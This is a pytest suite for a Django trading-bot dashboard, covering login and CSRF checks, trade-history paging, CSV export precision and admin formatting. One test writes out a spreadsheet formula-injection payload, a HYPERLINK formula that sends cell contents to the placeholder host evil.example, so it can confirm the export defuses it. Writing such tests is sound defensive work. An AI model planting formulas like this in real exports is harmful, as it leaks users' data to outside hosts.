"""Pages: the control room shell, the trade history with paging and CSV, login with CSRF, the admin."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from tradewire_dashboard.config import Settings
from tradewire_dashboard.demo_user import ensure_demo_user
from tradewire_dashboard.storage import store
from tradewire_schemas import Envelope

from .test_consumer import trade

PASSWORD = "correct horse battery"


@pytest.fixture
def client(database: Settings) -> Client:
    return Client()


def login(client: Client, username: str, *, can_control: bool) -> None:
    from django.contrib.auth.models import Permission

    user = User.objects.create_user(username, password=PASSWORD)
    if can_control:
        user.user_permissions.add(Permission.objects.get(codename="control_bot"))
    assert client.login(username=username, password=PASSWORD)


def page_config(html: str) -> dict[str, Any]:
    start = html.index('<script id="dashboard-config" type="application/json">') + len(
        '<script id="dashboard-config" type="application/json">'
    )
    result: dict[str, Any] = json.loads(html[start : html.index("</script>", start)])
    return result


def record_trades(count: int, bot: str) -> list[Envelope]:
    envelopes = [
        Envelope(epoch="e1", offset=f"{1000 + n}-0", event=trade(n, bot=bot).model_copy(update={"seq": n}))
        for n in range(1, count + 1)
    ]
    store(envelopes)
    return envelopes


def test_the_control_room_requires_login(client: Client) -> None:
    response = client.get("/")
    assert response.status_code == 302
    assert response["Location"] == "/accounts/login/?next=/"


def test_the_control_room_tells_the_page_who_may_control_bots(client: Client) -> None:
    login(client, "olga", can_control=True)
    record_trades(3, "alpha")
    html = client.get("/").content.decode()
    config = page_config(html)
    assert config["canControl"] is True
    assert config["wsPath"] == "/ws/control/"
    assert [t["data"]["seq"] for t in config["recentTrades"]] == [1, 2, 3]  # oldest first, for the page
    assert "vendor/lightweight-charts.standalone.production.js" in html


def test_the_page_resumes_where_the_recorded_history_ends(client: Client) -> None:
    login(client, "rita", can_control=False)
    alpha, beta = record_trades(3, "alpha"), record_trades(2, "beta")
    config = page_config(client.get("/").content.decode())
    assert config["resumeFrom"] == {"alpha": alpha[-1].offset, "beta": beta[-1].offset}


def test_a_viewer_gets_the_page_without_control(client: Client) -> None:
    login(client, "vera", can_control=False)
    assert page_config(client.get("/").content.decode())["canControl"] is False


def test_logging_in_without_the_csrf_token_is_refused(database: Settings) -> None:
    User.objects.create_user("csrf-victim", password=PASSWORD)
    strict = Client(enforce_csrf_checks=True)
    response = strict.post("/accounts/login/", {"username": "csrf-victim", "password": PASSWORD})
    assert response.status_code == 403


def test_the_login_form_logs_in_with_its_token(database: Settings) -> None:
    User.objects.create_user("lena", password=PASSWORD)
    strict = Client(enforce_csrf_checks=True)
    form = strict.get("/accounts/login/")
    token = form.cookies["csrftoken"].value
    response = strict.post("/accounts/login/", {"username": "lena", "password": PASSWORD, "csrfmiddlewaretoken": token})
    assert (response.status_code, response["Location"]) == (302, "/")


def test_trade_history_pages_newest_first_and_filters_by_bot(client: Client) -> None:
    login(client, "hugo", can_control=False)
    alpha = record_trades(60, "alpha")
    record_trades(5, "beta")
    first = client.get("/trades/?bot=alpha").content.decode()
    second = client.get("/trades/?bot=alpha&page=2").content.decode()
    assert "Page 1 of 2 · 60 trades" in first
    assert str(alpha[-1].event.event_id) in first  # newest on the first page
    assert str(alpha[0].event.event_id) in second
    assert str(alpha[0].event.event_id) not in first
    assert "Page 1 of 1 · 65 trades" not in first
    assert "65 trades" in client.get("/trades/").content.decode()


def test_csv_export_has_every_trade_with_exact_decimals(client: Client) -> None:
    login(client, "cora", can_control=False)
    envelopes = record_trades(3, "alpha")
    record_trades(2, "beta")
    response = client.get("/trades.csv?bot=alpha")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="trades-alpha.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["event_id"] for row in rows] == [str(e.event.event_id) for e in reversed(envelopes)]
    assert rows[-1]["price"].rstrip("0").rstrip(".") == "42001"
    assert {row["bot_id"] for row in rows} == {"alpha"}


def _a_profitable_sell(seq: int, bot: str = "alpha") -> Envelope:
    sell = trade(seq, side="sell", bot=bot).model_copy(
        update={
            "seq": seq,
            "price": Decimal("40800.925"),
            "amount": Decimal("0.0100"),
            "cost": Decimal("408.00925"),
            "realized_profit": Decimal("27.110299"),
            "realized_profit_pct": Decimal("7.1"),
            "position": Decimal("0"),
        }
    )
    return Envelope(epoch="e1", offset=f"{2000 + seq}-0", event=sell)


def test_csv_numbers_are_exact_plain_decimals_without_exponents(client: Client) -> None:
    # Issue 16: "0E-12" and "40800.920000000000" came out of the 12-place columns.
    login(client, "carla", can_control=False)
    store([_a_profitable_sell(1)])
    (row,) = csv.DictReader(io.StringIO(client.get("/trades.csv").content.decode()))
    assert (row["price"], row["amount"], row["cost"]) == ("40800.925", "0.01", "408.00925")
    assert (row["realized_profit"], row["realized_profit_pct"], row["position"]) == ("27.110299", "7.1", "0")


def test_the_history_writes_numbers_by_the_market_with_currency_sign_and_colour(client: Client) -> None:
    login(client, "hanna", can_control=False)
    store([_a_profitable_sell(1)])
    html = client.get("/trades/").content.decode()
    assert '<td class="num" data-field="price">40,800.93</td>' in html
    assert '<td class="num" data-field="amount">0.01</td>' in html
    assert '<td class="num" data-field="cost">408.01 USDT</td>' in html
    assert '<td class="num gain" data-field="profit">+27.11 USDT</td>' in html
    assert '<td class="num gain" data-field="profit-pct">+7.10 %</td>' in html
    assert "0E-12" not in html and "000000" not in html


def test_the_admin_writes_numbers_by_the_market(client: Client, database: Settings) -> None:
    User.objects.create_superuser("ada", password=PASSWORD)
    assert client.login(username="ada", password=PASSWORD)
    (envelope,) = [_a_profitable_sell(1)]
    store([envelope])
    listing = client.get("/admin/dashboard/trade/").content.decode()
    assert "40,800.93" in listing and '<span class="gain">+27.11 USDT</span>' in listing
    from tradewire_dashboard.models import Trade

    detail = client.get(f"/admin/dashboard/trade/{Trade.objects.get().pk}/change/").content.decode()
    assert "40,800.93" in detail and "408.01 USDT" in detail and "0.42 USDT" in detail
    assert "000000" not in listing and "000000" not in detail


def test_csv_cells_that_a_spreadsheet_would_run_are_exported_as_text(client: Client) -> None:
    # Issue 17, finding 6: free text from the exchange went into the CSV as is.
    login(client, "cecil", can_control=False)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile = trade(1).model_copy(update={"seq": 1, "order_id": attack, "fee_currency": "@SUM(1+1)"})
    loss = trade(2).model_copy(update={"seq": 2, "realized_profit": Decimal("-5.5"), "order_id": "+1"})
    store([Envelope(epoch="e1", offset=f"{1000 + e.seq}-0", event=e) for e in (hostile, loss)])
    rows = list(csv.DictReader(io.StringIO(client.get("/trades.csv").content.decode())))
    by_seq = {row["seq"]: row for row in rows}
    assert by_seq["1"]["order_id"] == "'" + attack
    assert by_seq["1"]["fee_currency"] == "'@SUM(1+1)"
    assert by_seq["2"]["order_id"] == "'+1"
    assert by_seq["2"]["realized_profit"].startswith("-5.5")  # a number stays a number
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())


def test_history_and_export_require_login(client: Client) -> None:
    assert client.get("/trades/").status_code == 302
    assert client.get("/trades.csv").status_code == 302


def test_the_demo_user_can_read_trades_in_the_admin(client: Client, database: Settings) -> None:
    record_trades(2, "alpha")
    demo = ensure_demo_user(database.model_copy(update={"demo_password": None, "demo": True}))
    assert demo is not None
    username, password = demo
    assert password is not None
    assert client.login(username=username, password=password)
    assert client.get("/admin/dashboard/trade/").status_code == 200
    assert client.get("/admin/dashboard/bot/").status_code == 200
    assert client.get("/admin/auth/user/").status_code == 403  # a demo user, not an administrator
